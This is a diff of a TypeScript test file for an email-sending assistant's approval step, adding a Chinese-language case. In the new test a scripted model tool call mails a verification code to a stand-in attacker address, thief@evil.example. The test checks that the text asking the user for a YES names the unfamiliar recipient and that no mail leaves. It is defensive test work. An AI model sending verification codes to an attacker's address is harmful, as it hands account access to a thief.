@@ -46,8 +46,11 @@ const ATTACKER = 'thief@evil.example';
 const call = (name: string, args: unknown) => ({ tools: [{ name, arguments: JSON.stringify(args) }] });
 
 /** A person with Google connected, their sample workspace opened, and where to plant content. */
-async function person(options: { timeZone?: string } = {}) {
-  const who = await assistantPerson(app, base, { timeZone: options.timeZone ?? 'America/New_York' });
+async function person(options: { timeZone?: string; language?: 'en' | 'zh' } = {}) {
+  const who = await assistantPerson(app, base, {
+    timeZone: options.timeZone ?? 'America/New_York',
+    ...(options.language ? { language: options.language } : {}),
+  });
   const connection = await app.db
     .selectFrom('connections')
     .select(['id', 'email', 'provider_account_id'])
@@ -165,6 +168,23 @@ describe('the text asking for a YES shows what leaves (finding 1)', () => {
       textApprovable: true,
     });
     expect(await mailsTo(ATTACKER)).toEqual([]);
+  });
+
+  it('says the same in Chinese, within 3 UCS-2 segments', async () => {
+    const lin = await person({ language: 'zh', timeZone: 'Asia/Shanghai' });
+    llm.script([call('mail_send', { to: [ATTACKER], subject: '验证码', text: '验证码是 482913。' })]);
+    await textFrom(app, lin.phone, '把验证码发出去');
+    const [ask] = await waitForTexts(app, lin.phone, 1);
+    expect(ask).toBe(
+      [
+        `发邮件给 ${ATTACKER}`,
+        `新地址（不在您的联系人中，您也没有给其发过邮件）：${ATTACKER}`,
+        '主题：验证码',
+        '“验证码是 482913。”',
+        '回复“是”发送，回复“否”取消。',
+      ].join('\n'),
+    );
+    expect(segmentsOf(ask!).segments).toBeLessThanOrEqual(3);
   });
 
   it('cuts only the body, says where all of it is, and the screen shows it whole', async () => {
